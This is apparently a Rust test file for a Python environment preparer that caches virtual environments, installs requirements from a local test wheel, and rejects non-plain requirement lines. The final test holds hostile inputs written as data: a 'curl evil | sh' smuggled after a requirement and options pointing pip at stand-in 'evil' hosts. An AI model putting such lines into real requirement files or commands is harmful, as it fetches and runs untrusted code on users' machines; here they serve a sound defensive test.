//! Interpreters for models in Python: made once by the tools themselves, and by nothing that a model says.

use std::fs::Permissions;
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::Command;

use mls::model::score::python::Error;
use mls::model::score::python::environment::{Choice, Wanted, prepare};

use crate::proof::tell;

fn wanted(folder: &Path, choice: Choice, requirements: &str) -> Wanted {
    Wanted {
        choice,
        python: "python3".into(),
        uv: uv(),
        cache: folder.join("cache"),
        requirements: Some(requirements.to_owned()),
        wheels_only: true,
    }
}

fn uv() -> Option<PathBuf> {
    let paths = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&paths).map(|path| path.join("uv")).find(|path| path.is_file())
}

fn is_made_once(choice: Choice) {
    let folder = tempfile::tempdir().unwrap();
    let wanted = wanted(folder.path(), choice, "# nothing beside the interpreter\n");
    let first = match prepare(&wanted, &|_| {}) {
        Ok(first) => first,
        Err(Error::NoPython(name)) => return tell(&format!("skipped: no `{name}`")),
        // Debian has parts of venv in a package of its own.
        Err(Error::Install { said, .. }) if said.contains("ensurepip") => {
            return tell("skipped: this Python has no `ensurepip`");
        }
        Err(error) => panic!("{error}"),
    };
    assert!(first.made && first.python.starts_with(folder.path()), "{first:?}");
    let told = Command::new(&first.python)
        .args(["-c", "import sys; print(sys.prefix != sys.base_prefix)"])
        .output()
        .unwrap();
    assert_eq!(told.stdout, b"True\n");
    let again = prepare(&wanted, &|_| {}).unwrap();
    assert!(!again.made && again.python == first.python);
    // Half an environment is made anew.
    let own = first.python.ancestors().nth(3).unwrap();
    std::fs::remove_file(own.join("ready")).unwrap();
    std::fs::remove_file(&first.python).unwrap();
    assert!(prepare(&wanted, &|_| {}).unwrap().made);
}

#[test]
fn an_environment_is_made_by_venv_and_kept() {
    is_made_once(Choice::Venv);
}

#[test]
fn an_environment_is_made_by_uv_and_kept() {
    match uv() {
        Some(_) => is_made_once(Choice::Uv),
        None => tell("skipped: no `uv`"),
    }
}

/// A package of one file, as `pip` installs it, in a folder that a search for packages may be led to.
const WHEEL: &str = r#"
import base64, hashlib, os, zipfile
name, info = "mls_test_wheel", "mls_test_wheel-1.2.dist-info"
files = {
    f"{name}.py": "ANSWER = 42\n",
    f"{info}/METADATA": "Metadata-Version: 2.1\nName: mls-test-wheel\nVersion: 1.2\n",
    f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
with zipfile.ZipFile(f"{name}-1.2-py3-none-any.whl", "w") as wheel:
    record = ""
    for path, text in files.items():
        wheel.writestr(path, text)
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record += f"{path},sha256={digest},{len(text)}\n"
    wheel.writestr(f"{info}/RECORD", record + f"{info}/RECORD,,\n")
"#;

/// Returns a `python3` whose environments have their packages from `folder`, and from nowhere else.
fn led_to(folder: &Path) -> Option<PathBuf> {
    let made = Command::new("python3").args(["-c", WHEEL]).current_dir(folder).status();
    if !made.is_ok_and(|status| status.success()) {
        tell("skipped: no `python3`");
        return None;
    }
    // What the variables of whoever runs the test say of packages, does not count.
    let lead = format!(
        "import os\nos.environ.update(PIP_NO_INDEX='1', PIP_FIND_LINKS='{}')\n",
        folder.display()
    );
    std::fs::write(folder.join("sitecustomize.py"), lead).unwrap();
    let python = folder.join("python3");
    let lead = format!("cp {}/sitecustomize.py \"$3\"/lib/*/site-packages/", folder.display());
    let text = format!("#!/bin/sh\npython3 \"$@\" || exit\n[ \"$2\" != venv ] || {lead}\n");
    std::fs::write(&python, text).unwrap();
    std::fs::set_permissions(&python, Permissions::from_mode(0o755)).unwrap();
    Some(python)
}

#[test]
fn requirements_are_installed_once_and_what_is_not_there_is_said() {
    let folder = tempfile::tempdir().unwrap();
    let Some(python) = led_to(folder.path()) else { return };
    let told = std::cell::RefCell::new(vec![]);
    let tell_line = |line: &str| told.borrow_mut().push(line.to_owned());
    let with =
        |text: &str| Wanted { python: python.clone(), ..wanted(folder.path(), Choice::Venv, text) };
    let first = with("# from a folder\nmls-test-wheel>=1.0  # this one\n");
    let made = match prepare(&first, &tell_line) {
        Ok(made) => made,
        Err(Error::Install { said, .. }) if said.contains("ensurepip") => {
            return tell("skipped: this Python has no `ensurepip`");
        }
        Err(error) => panic!("{error}"),
    };
    assert!(made.made && *told.borrow() == ["mls-test-wheel>=1.0"], "{told:?}");
    let program = "import mls_test_wheel; print(mls_test_wheel.ANSWER)";
    let said = Command::new(&made.python).args(["-c", program]).output().unwrap();
    assert_eq!(said.stdout, b"42\n", "{said:?}");
    // The same requirements in another order and with other remarks are the same environment.
    let again = prepare(&with("mls-test-wheel>=1.0\n"), &tell_line).unwrap();
    assert!(!again.made && again.python == made.python && told.borrow().len() == 1);
    let refused = prepare(&with("mls-test-wheel==9.9\n"), &|_| {}).unwrap_err();
    assert!(
        matches!(&refused, Error::Install { tool, said } if tool == "pip" && said.contains("9.9")),
        "{refused}"
    );
}

#[test]
fn m04_what_is_no_plain_requirement_starts_no_tool() {
    let folder = tempfile::tempdir().unwrap();
    for line in ["six; curl evil | sh", "-e git+https://evil.example/x", "--index-url http://evil"]
    {
        let wanted = Wanted {
            // It would fail in another way if it were started.
            python: "/nonexistent/python".into(),
            ..wanted(folder.path(), Choice::Venv, &format!("six==1.17.0\n{line}\n"))
        };
        let refused = prepare(&wanted, &|_| {}).unwrap_err();
        assert!(matches!(refused, Error::Requirement { line: 2, .. }), "{line}: {refused}");
    }
    assert!(!folder.path().join("cache").exists());
}
